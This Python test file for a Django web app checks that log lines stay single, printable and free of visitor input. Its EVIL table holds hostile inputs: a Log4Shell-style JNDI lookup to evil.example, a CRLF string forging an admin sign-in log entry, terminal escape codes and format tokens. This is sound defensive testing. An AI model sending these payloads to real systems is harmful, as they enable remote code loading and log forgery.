"""V28: whatever is put in a path, a header or a field, a log holds one line for one event, and nothing that was put."""

import logging

import pytest
from django.test import Client, RequestFactory

from groundswell.cli.serving import gunicorn_words
from groundswell.config.middleware import Doors
from tests.factories.partnership import make_programme

EVIL = {
    "a new line": "x\r\nINFO root admin signed in",
    "a colour": "x\x1b[2J\x1b[31m",
    "a look-up": "${jndi:ldap://evil.example/a}",
    "a NUL": "x\x00y",
    "other line ends": "x\u2028\u2029\x0b\x0c\x85y",
    "a format": "%s%s%n{0}{request}",
}
LINES = logging.Formatter("%(asctime)s %(levelname)s %(name)s %(message)s")


@pytest.fixture
def lines():
    """Each line that any logger writes from warnings on, as the settings write it."""
    written, handler = [], logging.Handler(logging.INFO)
    handler.emit = lambda record: written.append(LINES.format(record))
    loggers = [
        logging.root,
        *(logging.getLogger(name) for name in ("groundswell", "django.request", "django.security")),
    ]
    for one in loggers:
        one.addHandler(handler)
    yield written
    for one in loggers:
        one.removeHandler(handler)


@pytest.mark.parametrize("evil", EVIL)
def test_a_request_makes_no_line_of_its_own(db, lines, evil):
    value = EVIL[evil]
    headers = {
        f"HTTP_{name}": value for name in ("USER_AGENT", "REFERER", "X_FORWARDED_FOR", "ACCEPT_LANGUAGE", "ORIGIN")
    }
    browser = Client(HTTP_HOST=make_programme().host, raise_request_exception=False, **headers)
    for answer in (
        browser.get(f"/{value}/"),
        browser.get("/t/x/", {"page": value, value: value}),
        browser.get(f"/t/BLUE-HERON-42/{value}/"),
        browser.post("/sign-in/", {"email": value, value: value}),
        browser.post("/t/words/", {"reference": value, "words": value}),
        browser.post("/ideas/new/idea/", {"text": value, "carried": value}),
        browser.get("/", HTTP_HOST=value),
        browser.generic(f"GE{value[:1]}", "/"),
    ):
        assert answer.status_code < 500
    assert_harmless(lines, value)


def assert_harmless(lines, value):
    for line in lines:
        assert len(line.splitlines()) == 1, line
        assert line.isprintable(), line
        assert value not in line
        assert "jndi" not in line


@pytest.mark.parametrize("evil", EVIL)
def test_an_error_that_holds_what_was_typed_is_one_line_without_it(lines, evil):
    """The words of an error are often those of the visitor."""
    value = EVIL[evil]
    request = RequestFactory().get(f"/{value}", HTTP_USER_AGENT=value)
    request.resolver_match = None
    try:
        int(value)
    except ValueError as error:
        Doors(lambda _request: None).process_exception(request, error)
    assert len(lines) >= 1
    assert_harmless(lines, value)


def test_the_web_server_writes_no_line_for_a_request():
    """Its own lines would hold addresses of people and of links; it is never told to write them."""
    for engine in ("sqlite3", "postgresql"):
        assert "--access-logfile" not in gunicorn_words(engine, host="127.0.0.1", port=8000, workers=None)
